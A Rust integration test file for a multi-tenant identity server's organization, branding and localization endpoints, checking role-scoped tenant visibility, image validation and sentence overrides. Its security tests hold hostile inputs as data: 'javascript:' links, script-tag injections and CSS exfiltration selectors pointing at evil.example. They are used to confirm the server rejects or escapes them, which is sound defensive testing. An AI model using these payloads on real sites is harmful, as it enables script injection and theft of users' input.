//! `/organization`: the tenants that somebody may enter, and how their pages look and speak.

use crate::harness::{TestServer, on_both};
use app::contract::permission::Role;
use axum::{
    body::Body,
    http::{Request, StatusCode},
};
use image::{DynamicImage, ImageFormat};
use serde_json::{Value, json};
use server::directory::branding;
use std::io::Cursor;

fn png() -> Vec<u8> {
    let mut written = Vec::new();
    DynamicImage::new_rgba8(32, 32).write_to(&mut Cursor::new(&mut written), ImageFormat::Png).unwrap();
    written
}

#[tokio::test]
async fn somebody_sees_the_tenants_where_they_have_a_role() {
    on_both(async |server: TestServer| {
        let everywhere = server.administrator().await;
        let made = everywhere.post("/tenants", &json!({ "displayName": "Rowan Foods" })).await;
        assert_eq!(made.status, StatusCode::CREATED, "{}", made.text());
        let made = made.json();
        assert_eq!((made["names"][0].as_str(), made["tenantType"].as_str()), (Some("rowan-foods"), Some("CIAM")));
        let discovery = server.get("/rowan-foods/v2.0/.well-known/openid-configuration").await;
        assert_eq!(discovery.status, StatusCode::OK);
        let seen = |list: &Value| list["value"].as_array().unwrap().len();
        assert_eq!(seen(&everywhere.get("/organization").await.json()), 3);

        let one = server.administrator_who(&[(server.tenant.as_str(), Role::GlobalReader)]).await;
        assert_eq!(seen(&one.get("/organization").await.json()), 1);
        // Another tenant is not there, whichever way it is named (security R38).
        let foreign = made["id"].as_str().unwrap();
        assert_eq!(one.get(&format!("/organization/{foreign}")).await.status, StatusCode::NOT_FOUND);
        assert_eq!(one.about(foreign).get("/users").await.status, StatusCode::NOT_FOUND);
        assert_eq!(one.post("/tenants", &json!({ "displayName": "Mine" })).await.status, StatusCode::NOT_FOUND);

        let staff = everywhere.post("/tenants", &json!({ "displayName": "Rowan Staff", "tenantType": "AAD" })).await;
        assert_eq!((staff.status, &staff.json()["tenantType"]), (StatusCode::CREATED, &json!("AAD")));
        // A directory of employees is not the administrators' own: no role there is more than it is elsewhere, or less.
        let staff = staff.json()["id"].as_str().unwrap().to_owned();
        let clerk = server.administrator_who(&[(&staff, Role::UserAdministrator)]).await.about(&staff);
        assert_eq!(clerk.post("/users", super::world::person("ada")).await.status, StatusCode::CREATED);
        let strange = everywhere.post("/tenants", &json!({ "displayName": "X", "tenantType": "B2C" })).await;
        assert_eq!(strange.status, StatusCode::BAD_REQUEST);
    })
    .await;
}

#[tokio::test]
async fn the_brand_is_on_the_next_page() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let path = format!("/organization/{}/branding", server.tenant);
        let change = json!({ "brandColor": "#ffee00", "brandName": "Rowan", "customTermsOfUseUrl": "https://rowan.example/terms" });
        let changed = admin.patch(&path, &change).await;
        assert_eq!(changed.status, StatusCode::NO_CONTENT, "{}", changed.text());
        let shown = admin.get(&path).await.json();
        assert_eq!((shown["id"].as_str(), shown["palette"]["light"]["mended"].as_bool()), (Some("0"), Some(true)));
        let put = admin.put(&format!("{path}/bannerLogo"), "image/png", png()).await;
        assert_eq!(put.status, StatusCode::NO_CONTENT, "{}", put.text());

        let shop = server.application().await;
        let mut browser = server.browser();
        shop.asks(&mut browser).await;
        assert!(browser.page.html.contains("https://rowan.example/terms"));
        let logo = browser.page.attribute("img.logo", "src").unwrap();
        let picture = server.get(&logo).await;
        assert_eq!((picture.status, picture.header("content-type")), (StatusCode::OK, "image/png"));
        assert!(picture.header("cache-control").contains("immutable"));
        for bad in [json!({ "brandColor": "red" }), json!({ "customTermsOfUseUrl": "javascript:alert(1)" }), json!({ "bannerLogoRelativeUrl": "x" }), json!({ "customCSS": "body{}" }), json!({ "backgroundColor": "#ffffff" })] {
            assert_eq!(admin.patch(&path, &bad).await.status, StatusCode::BAD_REQUEST, "{bad}");
        }
        // Nothing is kept that no page draws; a language of its own has sentences, and no other colour.
        let german = format!("{path}/localizations/de");
        assert_eq!(admin.patch(&german, json!({ "brandColor": "#112233" })).await.status, StatusCode::BAD_REQUEST);
    })
    .await;
}

#[tokio::test]
async fn a_localization_says_what_pages_say_in_its_language() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let organization = format!("/organization/{}", server.tenant);
        let at = |locale: &str| format!("{organization}/branding/localizations/{locale}");
        let own = json!({ "customForgotMyPasswordText": "Kennwort weg?", "customTermsOfUseText": "Spielregeln" });
        let changed = admin.patch(&at("de"), &own).await;
        assert_eq!(changed.status, StatusCode::NO_CONTENT, "{}", changed.text());
        let again = admin.post(&format!("{organization}/branding/localizations"), json!({ "id": "de" })).await;
        assert_eq!(again.status, StatusCode::CONFLICT);
        assert_eq!(again.json()["error"]["message"], "This language has a branding already: change it by PATCH.");
        let shown = admin.read(&at("de")).await;
        assert_eq!(
            (&shown["customForgotMyPasswordText"], &shown["customPrivacyAndCookiesText"]),
            (&json!("Kennwort weg?"), &json!(null))
        );
        let said = async |key: &str| {
            let sentences = admin.read(&format!("{organization}/sentences/de")).await;
            let said = sentences["value"].as_array().unwrap().iter().find(|it| it["key"] == key).unwrap();
            said["value"].clone()
        };
        assert_eq!(said("pages.forgotPassword").await, "Kennwort weg?");
        // What is not named stays, and null takes back.
        assert_eq!(admin.patch(&at("de"), json!({ "customForgotMyPasswordText": null })).await.status, 204);
        assert_eq!(
            (said("pages.forgotPassword").await, said("pages.terms").await),
            (json!(null), json!("Spielregeln"))
        );
        // Pages are not written in every language.
        let refused = admin.patch(&at("tlh"), &own).await;
        assert!(refused.status == 400 && refused.text().contains("/sentences/"), "{}", refused.text());
        assert_eq!(admin.delete(&at("de")).await.status, 204);
        assert_eq!(said("pages.terms").await, json!(null));
        // What was saved when these were no sentences yet stands, and becomes one with the next change.
        let older = r#"{ "id": "de", "customTermsOfUseText": "Hausordnung" }"#;
        server
            .write(move |c, tenant, now| Box::pin(async move { branding::save(c, &tenant, "de", older, now).await }))
            .await;
        assert_eq!(admin.read(&at("de")).await["customTermsOfUseText"], "Hausordnung");
        assert_eq!(admin.patch(&at("de"), json!({ "customPrivacyAndCookiesText": "Daten" })).await.status, 204);
        assert_eq!(said("pages.terms").await, "Hausordnung");
    })
    .await;
}

#[tokio::test]
async fn the_default_says_what_no_language_says_otherwise() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let branding = format!("/organization/{}/branding", server.tenant);
        let text = "Trouble? [Ask <us>](https://rowan.example/help)\nMonday to Friday";
        let told = json!({
            "signInPageText": text, "usernameHintText": "name@rowan.example", "customForgotMyPasswordText": "Lost it?",
        });
        assert_eq!(admin.patch(&branding, &told).await.status, 204);
        let shown = admin.read(&branding).await;
        for (property, value) in told.as_object().unwrap() {
            assert_eq!(&shown[property], value, "{property}");
        }
        assert_eq!(admin.read(&format!("{branding}/localizations/0")).await["signInPageText"], text);

        let shop = server.application().await;
        let drawn = async |language: &str| {
            let mut browser = server.browser().reading(language);
            shop.asks(&mut browser).await;
            browser
        };
        let mut browser = drawn("en").await;
        assert_eq!(browser.page.attribute("#address", "placeholder").as_deref(), Some("name@rowan.example"));
        let html = &browser.page.html;
        let link = "href=\"https://rowan.example/help\" target=\"_blank\" rel=\"noopener noreferrer\"";
        assert!(html.contains(link) && html.contains("Ask &lt;us&gt;") && !html.contains("<us>"), "{html}");
        browser.fill(&[("Email address", "ada@example.org")]).press("Continue").await;
        assert!(browser.text().contains("Lost it?") && browser.text().contains("Monday to Friday"));
        // Who is asked for something else is told nothing of it.
        browser.press("Lost it?").await;
        assert!(!browser.text().contains("Monday to Friday"));

        // A language may say what the house says, where the default says otherwise.
        let english = format!("/organization/{}/sentences/en", server.tenant);
        let all = admin.read(&english).await;
        let said = all["value"].as_array().unwrap().iter().find(|it| it["key"] == "pages.forgotPassword").unwrap();
        assert_eq!((&said["default"], &said["value"]), (&json!("Lost it?"), &json!(null)));
        let house = json!({ "pages.forgotPassword": "Forgot password?" });
        assert_eq!(admin.patch(&english, house).await.status, 204);
        let mut browser = drawn("en").await;
        browser.fill(&[("Email address", "ada@example.org")]).press("Continue").await;
        assert!(browser.text().contains("Forgot password?") && !browser.text().contains("Lost it?"));
        assert_eq!(admin.patch(&english, json!({ "pages.forgotPassword": null })).await.status, 204);
        // And so may the default, in every language; blanks around it are nobody's words.
        let blank = json!({ "customForgotMyPasswordText": format!("Forgot password?{}", " ".repeat(2000)) });
        assert_eq!(admin.patch(&branding, blank).await.status, 204);
        assert_eq!(admin.read(&branding).await["customForgotMyPasswordText"], "Forgot password?");
        let mut browser = drawn("de").await;
        browser.fill(&[("E-Mail-Adresse", "ada@example.org")]).press("Weiter").await;
        assert!(browser.text().contains("Forgot password?"), "{}", browser.text());

        // A language of its own words says those.
        let german = format!("{branding}/localizations/de");
        assert_eq!(admin.patch(&german, json!({ "signInPageText": "Hilfe: Zimmer 7" })).await.status, 204);
        let german = drawn("de").await;
        assert!(german.text().contains("Hilfe: Zimmer 7") && !german.text().contains("Trouble?"));
        assert_eq!(german.page.attribute("#address", "placeholder").as_deref(), Some("name@rowan.example"));

        for (property, longest) in [("signInPageText", 1024), ("usernameHintText", 64)] {
            let long = |letters: usize| json!({ property: "ä".repeat(letters) });
            assert_eq!(admin.patch(&branding, long(longest)).await.status, 204, "{property}");
            let refused = admin.patch(&branding, long(longest + 1)).await;
            let named = &refused.json()["error"]["details"][0]["target"];
            assert_eq!((refused.status.as_u16(), named.as_str()), (400, Some(property)));
        }
        assert_eq!(admin.patch(&branding, json!({ "usernameHintText": "two\nlines" })).await.status, 400);
        // What cannot be a link of the web is read, and leads nowhere (security R21).
        let hostile = "[x](javascript:alert(1)) </p><script>alert(1)</script>";
        assert_eq!(admin.patch(&branding, json!({ "signInPageText": hostile })).await.status, 204);
        let browser = drawn("en").await;
        assert!(browser.text().contains(hostile), "{}", browser.text());
        assert!(!browser.page.html.contains("href=\"javascript:") && !browser.page.html.contains("<script>alert"));

        let nothing = json!({ "signInPageText": null, "usernameHintText": null, "customForgotMyPasswordText": null });
        assert_eq!(admin.patch(&branding, nothing).await.status, 204);
        let browser = drawn("en").await;
        assert!(!browser.page.html.contains("ext-boilerplate-text"));
        assert_eq!(browser.page.attribute("#address", "placeholder"), None);
    })
    .await;
}

#[tokio::test]
async fn a_picture_stands_behind_the_pages_and_no_word_stands_on_it() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let path = format!("/organization/{}/branding/backgroundImage", server.tenant);
        let shop = server.application().await;
        let mut browser = server.browser();
        shop.asks(&mut browser).await;
        assert!(!browser.page.html.contains("background:url("));
        let put = admin.put(&path, "image/png", png()).await;
        assert_eq!(put.status, StatusCode::NO_CONTENT, "{}", put.text());
        shop.asks(&mut browser).await;
        let html = &browser.page.html;
        let picture = html.split_once("body{background:url(").unwrap().1.split_once(')').unwrap().0;
        assert!(server.get(picture).await.header("cache-control").contains("immutable"), "{picture}");
        // The words below the card have a ground of their own.
        assert!(html.contains(".foot{") && html.contains("background:var(--card)"), "{html}");
        assert_eq!(admin.delete(&path).await.status, StatusCode::NO_CONTENT);
        shop.asks(&mut browser).await;
        assert!(!browser.page.html.contains("background:url("));
    })
    .await;
}

#[tokio::test]
async fn r22_what_is_no_picture_is_refused_and_strangers_pictures_are_not_read() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let path = format!("/organization/{}/branding/localizations/0/bannerLogo", server.tenant);
        for bad in [
            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            b"GIF89a".to_vec(),
            png()[..40].to_vec(),
            Vec::new(),
        ] {
            assert_eq!(admin.put(&path, "image/png", bad).await.status, StatusCode::BAD_REQUEST);
        }
        let large = admin.put(&path, "image/png", vec![0; 1024 * 1024 + 1]).await;
        assert_eq!(
            (large.status, &large.json()["error"]["code"]),
            (StatusCode::PAYLOAD_TOO_LARGE, &json!("Request_EntityTooLarge"))
        );
        let reader = server.administrator_who(&[("*", Role::GlobalReader)]).await;
        // Who may not send any is told so whatever they send: nobody has looked at it.
        for sent in [png(), b"GIF89a".to_vec(), vec![0; 1024 * 1024]] {
            let unknown = Request::put(format!("/graph/v1.0{path}")).body(Body::from(sent.clone())).unwrap();
            assert_eq!(server.send(unknown).await.status, StatusCode::UNAUTHORIZED);
            assert_eq!(reader.put(&path, "image/png", sent).await.status, StatusCode::FORBIDDEN);
        }
        assert_eq!(server.count("SELECT COUNT(*) FROM pictures").await, 0);
    })
    .await;
}

/// Security R22: a look is a few colours, texts and addresses, each of which is nothing else. There is no style sheet to write.
#[tokio::test]
async fn r22_no_style_comes_in_by_any_property() {
    const STOLEN: [&str; 6] = [
        "input[value^=a]{background:url(https://evil.example/a)}",
        "#3b5bdb;}input[value^=a]{background:url(//evil.example/a)}",
        "@import url(https://evil.example/style.css)",
        "url(https://evil.example/a)",
        "expression(alert(1))",
        "</style><script>alert(1)</script>",
    ];
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let path = format!("/organization/{}/branding", server.tenant);
        for text in STOLEN {
            for property in ["brandColor", "customPrivacyAndCookiesUrl", "customTermsOfUseUrl", "customCSS", "style"] {
                let refused = admin.patch(&path, json!({ property: text })).await;
                assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{property}: {text}");
            }
            // A name may be anything, and is a name.
            assert_eq!(admin.patch(&path, json!({ "brandName": text })).await.status, StatusCode::NO_CONTENT);
            let mut browser = server.browser();
            server.application().await.asks(&mut browser).await;
            assert!(browser.text().contains(text), "{text}");
            let styles = browser.page.html.split("<style").skip(1).map(|rest| rest.split("</style>").next().unwrap());
            assert!(styles.into_iter().all(|style| !style.contains("evil.example")), "{text}");
        }
    })
    .await;
}

#[tokio::test]
async fn any_sentence_can_be_said_otherwise() {
    on_both(async |server: TestServer| {
        let admin = server.administrator().await;
        let path = format!("/organization/{}/sentences/en", server.tenant);
        let change = json!({ "pages.signInHeading": "Welcome to the orchard" });
        let changed = admin.patch(&path, &change).await;
        assert_eq!(changed.status, StatusCode::NO_CONTENT, "{}", changed.text());
        let all = admin.get(&path).await.json();
        let own: Vec<&Value> = all["value"].as_array().unwrap().iter().filter(|it| !it["value"].is_null()).collect();
        assert_eq!((own.len(), own[0]["value"].as_str()), (1, Some("Welcome to the orchard")));
        let shop = server.application().await;
        let mut browser = server.browser();
        shop.asks(&mut browser).await;
        assert_eq!(browser.heading(), "Welcome to the orchard");
        // A place where something comes in cannot be lost, and no sentence made up.
        for bad in [
            json!({ "pages.resendIn": "Wait" }),
            json!({ "pages.nothing": "x" }),
            json!({ "pages.signIn": "" }),
            json!({ "pages.signIn": 1 }),
        ] {
            assert_eq!(admin.patch(&path, &bad).await.status, StatusCode::BAD_REQUEST, "{bad}");
        }
        assert_eq!(admin.patch(&path, &json!({ "pages.signInHeading": null })).await.status, StatusCode::NO_CONTENT);
        shop.asks(&mut browser).await;
        assert_ne!(browser.heading(), "Welcome to the orchard");
    })
    .await;
}
